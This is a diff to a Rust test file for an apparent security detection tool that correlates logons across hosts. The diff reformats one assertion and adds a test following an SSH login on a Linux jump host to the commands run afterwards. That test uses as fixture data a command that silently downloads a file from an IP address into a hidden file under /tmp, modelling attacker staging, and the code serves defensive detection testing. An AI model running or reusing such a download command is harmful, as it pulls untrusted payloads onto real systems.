@@ -211,6 +211,19 @@ fn credentials_used_in_his_session_lead_to_the_next_desktop() {
     records.push(next("CORP\\ops-17", 81));
     records.push(next("CORP\\taro", 83));
     let (found, _) = run(&records);
-    let to: Vec<_> = found.iter().filter(|f| f.rule == "followed-logon" && f.args["host"] == "ADM01").map(|f| f.args["user"].as_str()).collect();
+    let to: Vec<_> =
+        found.iter().filter(|f| f.rule == "followed-logon" && f.args["host"] == "ADM01").map(|f| f.args["user"].as_str()).collect();
     assert_eq!(to, ["CORP\\ops-17"]);
+}
+
+/// Plain syslog names the source of an SSH login with the password, not with the session.
+#[test]
+fn an_ssh_login_on_linux_is_followed_to_its_commands() {
+    let mut records = story("203.0.113.77");
+    records.push(Record { src_port: Some(50_022), ..event("linux/syslog", Kind::AuthSuccess, 90, "jump", "ops", "10.9.0.7") });
+    let curl = "curl -sk -o /tmp/.x https://203.0.113.9/e";
+    records.push(Record { command: curl.into(), ..event("linux/auditd", Kind::ProcessStart, 95, "jump", "ops", "") });
+    let (found, _) = run(&records);
+    assert_eq!(of(&found, "followed-ssh").map(|f| f.args["host"].as_str()), Some("jump"));
+    assert!(found.iter().any(|f| f.rule == "followed-command" && f.args["command"] == curl));
 }
